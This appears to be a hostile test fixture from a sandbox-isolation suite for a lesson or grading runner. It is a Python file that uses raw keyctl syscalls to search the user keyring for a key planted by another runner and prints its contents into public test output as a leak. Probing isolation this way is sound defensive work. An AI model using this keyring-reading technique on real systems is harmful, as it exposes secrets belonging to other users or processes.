# HOSTILE base=solution
"""Second half of keyring_exfil: read the key the lesson-00 runner (other namespaces,
same uid) wrote and print it; this import's output lands in the first public test."""
import ctypes as _ct

_libc = _ct.CDLL(None, use_errno=True)
_key = _libc.syscall(250, 10, _ct.c_int(-4), b"user", b"hostile-exfil", 0)  # KEYCTL_SEARCH
_buf = _ct.create_string_buffer(20000)
_n = _libc.syscall(250, 11, _key, _buf, 20000) if _key > 0 else -1  # KEYCTL_READ
if _n > 0:
    print("LEAK:keyring: from the lesson-00 runner:\n" + _buf.raw[:_n].decode("utf-8", "replace"))
print("HOSTILE-DONE keyring_exfil")
